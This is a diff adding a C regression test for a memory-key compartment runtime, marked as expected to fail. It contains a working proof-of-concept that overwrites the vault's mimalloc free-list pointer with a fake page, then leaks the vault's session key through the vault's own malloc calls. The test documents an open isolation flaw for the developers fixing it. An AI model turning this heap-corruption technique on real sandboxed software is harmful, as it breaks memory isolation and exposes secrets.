@@ -1,0 +1,89 @@
+// Variant of attacks-review-heap-read.c that leaves the per-thread heap
+// pointer (__bulkhead_heap_tls.heap[i]) alone: the vault's real mi_heap_t,
+// which that pointer points to, is itself key-0 memory (mimalloc allocates
+// it from the thread's backing heap, outside the vault's region). The
+// default domain reads the pointer, rewrites one entry of the real heap's
+// pages_free_direct[] to a page of its own, and the vault's next malloc
+// pops a block from there with the vault's rights, storing the block's
+// first word (8 bytes of vault memory, at an address the attacker chose)
+// into the attacker's page. So validating the heap pointer (keeping a list
+// of the heaps the runtime created, on the vault's pages) would not close
+// attacks-review-heap-read.c: the heap structures, their thread data and
+// the copy's globals need to be the vault's memory too (threat-model.md,
+// "Runtime state", the heap rows).
+// OPEN: expected to fail (the secret leaks) until fixed.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t && %run %t
+#include "Inputs/check.h"
+
+BULKHEAD_DATA(vault) static char master[32] = "vault master key 0123456789abcd";
+
+struct session {
+  char key[32];
+};
+
+BULKHEAD_ENTRY(vault) struct session *vault_session(void) {
+  struct session *s = malloc(sizeof *s);
+  if (s)
+    memcpy(s->key, master, sizeof master);
+  return s;
+}
+
+/* Copies a message into a scratch buffer of the vault's heap. */
+BULKHEAD_ENTRY(vault) int vault_log(const char *msg) {
+  size_t n = strlen(msg) + 1;
+  char *b = malloc(n < 16 ? 16 : n);
+  if (!b)
+    return -1;
+  memcpy(b, msg, n);
+  int r = (int)strlen(b);
+  free(b);
+  return r;
+}
+
+/* runtime/heap.c's per-thread state (a hidden symbol, in the binary). */
+struct heap_tls {
+  void **heap[15];
+  unsigned used;
+  int dtor;
+  int busy;
+};
+extern __thread struct heap_tls heap_tls __asm__("__bulkhead_heap_tls")
+    __attribute__((visibility("hidden")));
+
+/* mimalloc 2.0's page, as far as its malloc fast path reads it (free at
+ * 16, used at 24); the heap's pages_free_direct[(n + 7) / 8] is at
+ * 8 + 8 * index. */
+static struct {
+  char head[16];
+  void *free;
+  unsigned used, xblock_size;
+  char rest[64];
+} fake_page;
+
+int main(void) {
+  struct session *s = vault_session(); /* an opaque handle */
+  CHECK(s && page_pkey(s) == bulkhead_compartment_pkey("vault"));
+  CHECK(vault_log("hello") == 5);
+  void **heap = heap_tls.heap[0]; /* not rewritten: only read */
+  CHECK(heap && page_pkey(heap) == 0); /* the real heap is key-0 memory */
+  void **direct = &heap[1 + (16 + 7) / 8]; /* vault_log's malloc(16) */
+  unsigned long words[4];
+  for (int k = 3; k >= 0; k--) { /* downwards: the vault writes 16 bytes at the block */
+    void *real_page = *direct;
+    fake_page.free = (char *)s + 8 * k;
+    *direct = &fake_page; /* a key-0 store into the real heap */
+    vault_log("hello");
+    *direct = real_page;
+    words[k] = (unsigned long)fake_page.free; /* the vault's word, in key-0 memory */
+  }
+  char stolen[33] = {0};
+  memcpy(stolen, words, 32);
+  if (!memcmp(stolen, "vault master key", 16)) {
+    fprintf(stderr, "attacks-heap-struct-read: LEAK: the vault's session key \"%s\"\n", stolen);
+    return 1;
+  }
+  printf("attacks-heap-struct-read: ok\n");
+  return 0;
+}
